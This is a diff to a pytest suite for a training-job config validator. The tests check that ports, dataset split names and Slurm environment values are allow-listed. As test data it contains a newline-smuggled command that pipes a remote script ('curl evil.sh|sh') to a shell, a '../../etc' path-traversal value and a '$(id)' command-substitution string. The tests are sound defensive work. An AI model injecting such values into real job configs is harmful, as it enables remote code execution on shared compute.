@@ -509,6 +509,76 @@ def test_absurd_values_name_the_bound(kind: str, data: dict[str, Any], message: 
     assert _error(kind, {**MODEL, **data}) == message
 
 
+PORT_RULE = "a port from 1024 to 65535 (below 1024: system services' ports)"
+SPLIT_RULE = "a split name of 1-100 letters, digits, '_', '-', '.', '[', ']', ':', '%' (no '/', no '..')"
+
+
+@pytest.mark.parametrize(
+    ("kind", "data", "message"),
+    [
+        (
+            "rl",
+            {"launcher": {"slurm": {"env": {"NCCL_DEBUG": "INFO\ncurl evil.sh|sh"}}}},
+            "launcher.slurm.env: expected values without control characters (newline, CR, NUL, tab; each value is "
+            "shell-quoted in the job script), got NCCL_DEBUG='INFO\\ncurl evil.sh|sh'",
+        ),
+        (
+            "sft",
+            {"launcher": {"slurm": {"env": {"TZ": "UTC\r"}}}},
+            "launcher.slurm.env: expected values without control characters (newline, CR, NUL, tab; each value is "
+            "shell-quoted in the job script), got TZ='UTC\\r'",
+        ),
+        (
+            "rl",
+            {"launcher": {"slurm": {"inference_port": 22}}},
+            f"launcher.slurm.inference_port: expected {PORT_RULE}, got 22",
+        ),
+        ("rl", {"launcher": {"slurm": {"rdzv_port": 80}}}, f"launcher.slurm.rdzv_port: expected {PORT_RULE}, got 80"),
+        ("rl", {"inference": {"port": 443}}, f"inference.port: expected 0 (a free port) or {PORT_RULE}, got 443"),
+        (
+            "rl",
+            {"trainer": {"weight_sync": {"master_port": 1}}},
+            f"trainer.weight_sync.master_port: expected 0 (a free port) or {PORT_RULE}, got 1",
+        ),
+        ("sft", {"data": {"split": "../../etc"}}, f"data.split: expected {SPLIT_RULE}, got '../../etc'"),
+        ("sft", {"data": {"eval_split": "a/b"}}, f"data.eval_split: expected {SPLIT_RULE}, got 'a/b'"),
+        ("sft", {"data": {"split": "train..x"}}, f"data.split: expected {SPLIT_RULE}, got 'train..x'"),
+        ("sft", {"data": {"split": ""}}, f"data.split: expected {SPLIT_RULE}, got ''"),
+        (
+            "rl",
+            {"launcher": {"slurm": {"extra_sbatch": ["--hold"] * 65}}},
+            "launcher.slurm.extra_sbatch: List should have at most 64 items after validation, not 65",
+        ),
+        (
+            "rl",
+            {"inference": {"extra_args": ["--enable-prefix-caching"] * 65}},
+            "inference.extra_args: List should have at most 64 items after validation, not 65",
+        ),
+    ],
+)
+def test_job_script_values_ports_and_split_names_are_allow_listed(
+    kind: str, data: dict[str, Any], message: str
+) -> None:
+    assert _error(kind, {**MODEL, **data}) == message
+
+
+def test_allowed_job_env_values_ports_and_split_names_pass() -> None:
+    """Shell characters in a job variable are fine: the job script quotes each value
+    (``tests/unit/worker/launchers/test_slurm.py``)."""
+    rl = validate_spec(
+        "rl",
+        {
+            **MODEL,
+            "inference": {"port": 8000},
+            "trainer": {"weight_sync": {"master_port": 0}},
+            "launcher": {"slurm": {"env": {"TZ": "$(id);`id` x"}, "inference_port": 1024, "rdzv_port": 65535}},
+        },
+    )
+    assert rl.launcher.slurm.env == {"TZ": "$(id);`id` x"}
+    sft = validate_spec("sft", {**MODEL, "data": {"split": "train[:10%]", "eval_split": "validation.v2"}})
+    assert (sft.data.split, sft.data.eval_split) == ("train[:10%]", "validation.v2")
+
+
 def test_hold_steps_are_distinct_sorted_and_before_max_steps() -> None:
     spec = validate_spec("rl", {**MODEL, "max_steps": 10, "ckpt": {"hold_at": [6, 2]}})
     assert spec.ckpt.hold_at == [2, 6]  # kept ascending
@@ -629,7 +699,7 @@ def rl_specs(draw: st.DrawFn) -> RLSpec:
             "env": {"id": draw(_text), "args": draw(_env_args)},
             "inference": {
                 "url": draw(st.none() | st.just("http://127.0.0.1:8000")),
-                "port": draw(st.integers(0, 65535)),
+                "port": draw(st.just(0) | st.integers(1024, 65535)),
                 "max_model_len": max_model_len,
                 "gpu_memory_utilization": draw(st.floats(min_value=0.01, max_value=1.0)),
                 "extra_args": draw(st.lists(_text, max_size=3)),
